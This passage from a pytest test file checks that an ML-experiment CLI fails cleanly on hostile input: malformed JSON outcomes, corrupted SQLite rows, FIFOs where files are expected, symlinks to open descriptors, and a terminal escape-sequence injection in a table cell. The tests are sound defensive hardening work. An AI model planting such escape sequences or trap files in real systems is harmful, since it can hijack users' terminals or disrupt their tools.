    _one_line_exit_2(run_cli(argv), f"8 images of {root / 'train'} at image_size 200000 need about")


@pytest.mark.parametrize(("meta", "outcome", "expected"), [
    ({k: v for k, v in _META.items() if k != "paper"}, None, "meta.paper is missing"),
    ([1, 2], None, "meta must be an object, got a list"),
    ({**_META, "seeds": 3}, None, "meta.seeds must be a list, got an int"),
    (None, {**_OUTCOME, "verdict": 1}, "outcome.verdict must be a string, got an int"),
    (None, {**_OUTCOME, "tables": [{"title": "t", "columns": ["a"], "rows": [5]}]},
     "outcome.tables[0].rows[0] must be a list, got an int"),
])
def test_a_crafted_outcome_json_names_the_file_and_field(hostile, meta, outcome, expected):
    folder = hostile / "study"
    folder.mkdir()
    saved = {"meta": _META if meta is None else meta, "outcome": _OUTCOME if outcome is None else outcome}
    (folder / "outcome.json").write_text(json.dumps(saved))
    _one_line_exit_2(run_cli(["report", str(folder)]),
                     f"{folder / 'outcome.json'} is not a valid study outcome: {expected}")
    assert sorted(p.name for p in folder.iterdir()) == ["outcome.json"]


@pytest.mark.parametrize("column", ["config", "summary", "environment"])
def test_store_rows_that_are_json_but_not_objects_are_one_line(hostile, column):
    import sqlite3

    store = hostile / "store.sqlite"
    with Store(store) as db:
        rid = db.start_run({"model": "cnn"}, name="r", environment={})
        db.finish_run(rid, "finished", summary={"final_test_acc": 0.5})
    with contextlib.closing(sqlite3.connect(store)) as conn, conn:
        conn.execute(f"UPDATE runs SET {column} = '[1, 2]'")
    before = store.read_bytes()
    expected = f"store '{store}': run {rid}'s {column} is not a JSON object (got list)"
    for argv in (["runs", "list"], ["runs", "show", str(rid)], ["runs", "export"], ["report", str(store)]):
        _one_line_exit_2(run_cli(argv), expected)
    assert store.read_bytes() == before


# 7. what the CLI says: Ctrl-C; train twice


def test_ctrl_c_prints_its_line_and_exits_130(hostile, monkeypatch):
    from normlab.train import trainer

    def interrupted(self):
        raise KeyboardInterrupt

    monkeypatch.setattr(trainer.Trainer, "fit", interrupted)
    code, out, err = run_cli(["train", *TINY])
    assert code == 130 and out == ""
    assert err.splitlines() == ["error: interrupted (Ctrl-C); finished runs are kept in the store"]


def test_train_twice_with_one_config_stores_two_finished_runs(hostile):
    for _ in range(2):
        code, _, err = run_cli(["train", *TINY, "--no-progress", "--json"])
        assert code == 0, err
    with Store(hostile / "store.sqlite", readonly=True) as db:
        runs = db.runs()
    assert [r.status for r in runs] == ["finished", "finished"] and len({r.config_key for r in runs}) == 1


@pytest.mark.parametrize(("argv", "expected"), [
    (["train", "--config", "fifo"], "config file 'fifo' is not a regular file (a FIFO, device or socket)"),
    (["train", "--dataset", "npz:fifo", *TINY], "dataset 'npz:fifo': file 'fifo' is not a regular file"),
    (["probe", "hessian", "--checkpoint", "fifo"], "checkpoint 'fifo' is not a regular file"),
    (["train", "--dataset", "cifar10", "--data-root", "cifar", "--steps", "1"],
     "CIFAR batch file 'cifar/cifar-10-batches-py/data_batch_1' is not a regular file"),
])
def test_a_fifo_where_a_file_is_read_is_refused_not_opened(hostile, argv, expected):
    os.mkfifo(hostile / "fifo")
    (hostile / "cifar" / "cifar-10-batches-py").mkdir(parents=True)
    os.mkfifo(hostile / "cifar" / "cifar-10-batches-py" / "data_batch_1")
    _one_line_exit_2(run_cli(argv), expected)


def test_markdown_tables_and_captions_stay_on_one_line_without_control_characters():
    from normlab.reports.document import Section, render_markdown
    from normlab.reports.figure import Figure
    from normlab.reports.table import Table

    table = Table("t\n# h", ["a\nb"], [["x\x1b]0;owned\x07\ny|z"]])
    md = render_markdown("T", [Section("s", tables=[table], figures=[Figure("f", "f.png", "cap\n<b>")])])
    assert "\x1b" not in md and "\x07" not in md and "\n# h" not in md
    assert "| x\\x1b]0;owned\\x07 y\\|z |" in md and "![cap &lt;b&gt;](f.png)" in md


def test_export_to_a_stream_writes_into_it_and_keeps_the_link(hostile):
    # `-o /dev/stdout` is a link to /proc/self/fd/1: replacing it (as a planted link is replaced) would turn
    # the machine's /dev/stdout into a file. Here the same shape: a link to an open descriptor, and a FIFO.
    with Store(hostile / "store.sqlite") as db:
        db.finish_run(db.start_run({"model": "cnn"}, name="r", environment={}), "finished", summary={})
    with open(hostile / "redirected.csv", "w+") as target:
        (hostile / "stdout").symlink_to(f"/proc/self/fd/{target.fileno()}")
        code, _, err = run_cli(["runs", "export", "-o", str(hostile / "stdout")])
        assert code == 0, err
    assert (hostile / "stdout").is_symlink()
    assert (hostile / "redirected.csv").read_text().startswith("id,name,group,status")
    os.mkfifo(hostile / "pipe")
    received = []
    reader = threading.Thread(target=lambda: received.append((hostile / "pipe").read_text()))
    reader.start()
    code, _, err = run_cli(["runs", "export", "-o", str(hostile / "pipe"), "--format", "json"])
    reader.join(30)
    assert code == 0, err
    assert (hostile / "pipe").is_fifo() and json.loads(received[0])[0]["name"] == "r"
